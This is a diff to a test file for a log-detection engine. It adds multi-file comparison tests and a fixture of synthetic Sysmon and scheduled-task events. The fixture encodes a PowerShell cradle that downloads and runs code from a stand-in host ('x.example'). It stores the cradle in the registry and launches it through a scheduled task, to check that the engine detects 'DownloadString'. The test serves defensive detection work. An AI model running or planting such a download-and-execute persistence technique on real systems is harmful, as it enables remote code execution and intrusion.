@@ -14,7 +14,8 @@ import {
   sampleBytes,
 } from "../support/captures.ts";
 import { Random } from "../support/random.ts";
-import { scanBytes } from "../support/scan.ts";
+import { scanFiles } from "../support/scan.ts";
+import type { ScanResult } from "../support/scan.ts";
 
 const bare = (name: string, text: string): RuleFileText => ({
   path: `${name}.eql`,
@@ -63,13 +64,18 @@ const withoutTasks = (alert: AlertDocument): object =>
     ),
   );
 
-async function compare(
+const compare = (
   content: Buffer,
   rules: readonly RuleFileText[] | undefined,
-): Promise<void> {
+): Promise<ScanResult> => compareFiles({ "log.ndjson": content }, rules);
+
+async function compareFiles(
+  files: Readonly<Record<string, Buffer | string>>,
+  rules: readonly RuleFileText[] | undefined,
+): Promise<ScanResult> {
   const settings = rules === undefined ? {} : { rules };
-  const fast = await scanBytes(content, settings);
-  const reference = await scanBytes(content, { ...settings, indexed: false });
+  const fast = await scanFiles(files, settings);
+  const reference = await scanFiles(files, { ...settings, indexed: false });
   expect(fast.alerts.map(withoutTasks)).toEqual(
     reference.alerts.map(withoutTasks),
   );
@@ -77,6 +83,31 @@ async function compare(
   expect(fast.tasks).toBe(reference.tasks);
   expect(fast.badLines).toEqual(reference.badLines);
   expect(fast.health).toEqual(reference.health);
+  return fast;
+}
+
+/** Lines of a log dealt out to several, which are read side by side. */
+function dealtOut(content: Buffer, seed: number): Record<string, string> {
+  const random = new Random(seed);
+  const logs: Record<string, string> = { a: "", b: "", c: "" };
+  for (const line of content.toString("utf8").split("\n")) {
+    const name = "abc"[random.int(3)]!;
+    // Now and then a line that is none, or ends otherwise, or is spread over several.
+    const how = random.int(40);
+    logs[name] +=
+      how === 0
+        ? ` ${line}\n`
+        : how === 1
+          ? `${line}\r\n\n`
+          : how === 2
+            ? `${line.replace(",", ",\n ")}\n`
+            : how === 3
+              ? `{"broken":\n${line}\n`
+              : `${line}\n`;
+  }
+  return Object.fromEntries(
+    Object.entries(logs).map(([name, text]) => [`${name}.ndjson`, text]),
+  );
 }
 
 /** Lines cut, joined, spelt with escapes, with a key twice, with other bytes, and late ones. */
@@ -132,6 +163,57 @@ describe("the fast engine", () => {
     }
   });
 
+  it("finds the same in logs that are read side by side", async () => {
+    for (let seed = 1; seed <= 3; seed++) {
+      const logs = dealtOut(sampleBytes("incident-winlogbeat"), seed);
+      await compareFiles(logs, undefined);
+      await compareFiles(logs, MANY);
+    }
+  });
+
+  it("finds the same of a task's code that was written to the registry", async () => {
+    const at = (i: number): string =>
+      `2020-09-21 07:15:${String(10 + i).padStart(2, "0")}`;
+    const written = (i: number, name: string, details: string): object => ({
+      EventTime: at(i),
+      UtcTime: `${at(i)}.000`,
+      Hostname: "W5",
+      EventID: 13,
+      SourceName: "Microsoft-Windows-Sysmon",
+      Channel: "Microsoft-Windows-Sysmon/Operational",
+      RecordNumber: i + 1,
+      SourceModuleType: "im_msvistalog",
+      EventType: "SetValue",
+      TargetObject: `HKU\\S-1-5-21-1-2-3-1104\\Software\\Debug\\${name}`,
+      Details: details,
+    });
+    const code = Buffer.from(
+      "(New-Object Net.WebClient).DownloadString('http://x.example/y')|IEX # and more",
+      "utf16le",
+    ).toString("base64");
+    const created = {
+      EventTime: at(31),
+      Hostname: "W5",
+      EventID: 4698,
+      SourceName: "Microsoft-Windows-Security-Auditing",
+      Channel: "Security",
+      RecordNumber: 900,
+      SourceModuleType: "im_msvistalog",
+      SubjectUserName: "anna",
+      TaskName: "\\Updater",
+      TaskContent:
+        "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-c IEX (gp HKCU:\\Software\\Debug code).code</Arguments></Exec></Actions></Task>",
+    };
+    const log = [
+      ...Array.from({ length: 30 }, (_, i) => written(i, `n${i}`, "Binary")),
+      written(30, "code", code),
+      created,
+    ];
+    const text = log.map((doc) => `${JSON.stringify(doc)}\n`).join("");
+    const { tasks } = await compare(Buffer.from(text), undefined);
+    expect(tasks).toContain("DownloadString");
+  });
+
   it.skipIf(!hasCorpus)(
     "finds the same in the captures of ../shared/corpus",
     async () => {
@@ -139,6 +221,7 @@ describe("the fast engine", () => {
         const content = captureBytes(name);
         for (const rules of [...FEW, MANY]) await compare(content, rules);
         await compare(damaged(content, 7), MANY);
+        await compareFiles(dealtOut(content, 9), undefined);
       }
     },
   );
